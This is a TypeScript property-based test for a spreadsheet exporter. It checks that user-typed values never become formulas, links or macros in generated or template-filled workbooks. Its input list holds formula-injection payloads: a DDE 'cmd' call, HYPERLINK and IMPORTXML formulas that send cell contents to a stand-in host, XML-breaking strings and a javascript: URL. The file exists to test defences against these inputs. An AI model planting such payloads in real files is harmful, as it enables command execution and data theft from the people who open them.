// What people typed goes into the tables of others: a spreadsheet must never run it.
import ExcelJS from 'exceljs'
import { strFromU8, unzipSync } from 'fflate'
import fc from 'fast-check'
import { describe, expect, it } from 'vitest'
import { workbookSpec, type CellSpec } from '@shared/ipc/workbook'
import { fillTemplate } from './template'
import { drawWorkbook } from './workbook'

const RUNS = Math.ceil(Number(process.env['WENXIN_FUZZ_RUNS'] ?? 150) / 10)
const TIMEOUT = 60_000 + RUNS * 1_000
const STORIES = [
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("http://a.example/?"&A1,"点这里")',
  '+86 13900001234',
  '-1+1',
  '@SUM(1+1)',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '＝1+1',
  ';=1+1',
  '"=1+1',
  "'=1+1",
  '=IMPORTXML(CONCAT("http://a.example/",A1),"//a")',
  '{=1}',
  '</t></is><f>1+1</f>',
  ']]><f>1</f>',
  '_x003D_1+1',
  'javascript:alert(1)',
  '\\\\server\\share\\x'
]
const text = fc.oneof(
  fc.constantFrom(...STORIES),
  fc
    .tuple(fc.constantFrom('=', '+', '-', '@', '\t', '|', '%0A='), fc.string({ unit: 'binary' }))
    .map((p) => p.join(''))
)

/** What the file is made of: no formula, no link, nothing outside of it, no macro. */
function isInert(bytes: Uint8Array, formulas = 0): void {
  const parts = Object.entries(unzipSync(bytes))
  const names = parts.map(([name]) => name).join('\n')
  expect(names).not.toMatch(/externalLink|vbaProject|macrosheet|connections|embeddings|queryTable/i)
  for (const [name, content] of parts) {
    if (!/\.(xml|rels)$/.test(name)) continue
    const xml = strFromU8(content)
    if (name.includes('worksheets/')) expect(xml.match(/<(\w+:)?f[\s>/]/g) ?? []).toHaveLength(formulas)
    expect([name, xml]).not.toEqual([name, expect.stringMatching(/<(\w+:)?(hyperlink|ddeLink|oleLink)\b/)])
    expect([name, xml]).not.toEqual([name, expect.stringContaining('TargetMode="External"')])
  }
}
/** As the file format keeps texts: what XML cannot hold is dropped or marked. */
const kept = (value: string): string =>
  value
    .replace(/\r\n?/g, '\n')
    .replace(/[^\P{Cc}\t\n]|[\ufffe\uffff]/gu, '')
    .replace(/\p{Surrogate}/gu, '\ufffd')
async function sheetOf(bytes: Uint8Array): Promise<ExcelJS.Worksheet> {
  const read = new ExcelJS.Workbook()
  await read.xlsx.load(bytes.slice().buffer as ArrayBuffer)
  const [sheet] = read.worksheets
  if (!sheet) throw new Error('no sheet')
  return sheet
}

/** Every table that is exported is drawn by this one module, every form of the office is filled by the other. */
describe('a text that a spreadsheet would take for a formula', () => {
  it(
    'is a text in every table, wherever it stands and whatever its style',
    async () => {
      const styles = [
        'title',
        'meta',
        'metaRight',
        'head',
        'headVertical',
        'unit',
        'label',
        'number',
        'text',
        'total',
        'note'
      ]
      const style = fc.constantFrom(...(styles as CellSpec['style'][]))
      const cells = fc.array(fc.tuple(text, style), { minLength: 1, maxLength: 12 })
      await fc.assert(
        fc.asyncProperty(cells, text, async (list, title) => {
          const made = list.map(([value, look], at): CellSpec => ({
            row: at + 1,
            column: 1,
            value,
            style: look
          }))
          const sheet = {
            ...{ name: '表', columnWidths: [20], rowHeights: [], cells: made, landscape: false },
            ...{ repeatRows: null, freeze: null }
          }
          const spec = workbookSpec.parse({ title: title.slice(0, 200), sheets: [sheet] })
          const bytes = await drawWorkbook(spec)
          isInert(bytes)
          const read = await sheetOf(bytes)
          for (const [at, [value]] of list.entries()) {
            const cell = read.getCell(at + 1, 1)
            expect([ExcelJS.ValueType.String, ExcelJS.ValueType.Null]).toContain(cell.type)
            // The library itself reads such groups as characters; an office suite shows them as they are.
            if (!/_x[0-9a-f]{4}_/i.test(value)) expect(cell.value ?? '').toBe(kept(value))
          }
        }),
        { numRuns: RUNS }
      )
    },
    TIMEOUT
  )

  it(
    'is a text in the office’s own form, whose own formulas stay',
    async () => {
      const book = new ExcelJS.Workbook()
      const form = book.addWorksheet('汇总')
      form.getCell('A1').value = '姓名'
      form.getCell('B9').value = { formula: 'SUM(B1:B8)', result: 0 }
      const blank = new Uint8Array(await book.xlsx.writeBuffer())
      await fc.assert(
        fc.asyncProperty(fc.array(text, { minLength: 1, maxLength: 6 }), async (list) => {
          const values = list.map((value, at) => ({ sheet: '汇总', cell: `A${at + 2}`, value }))
          const bytes = fillTemplate(blank, values)
          isInert(bytes, 1)
          const read = await sheetOf(bytes)
          for (const [at, value] of list.entries()) {
            const { type, value: found } = read.getCell(`A${at + 2}`)
            expect(type).not.toBe(ExcelJS.ValueType.Formula)
            if (!/_x[0-9a-f]{4}_/i.test(value)) expect(found ?? '').toBe(kept(value))
          }
        }),
        { numRuns: RUNS }
      )
    },
    TIMEOUT
  )
})
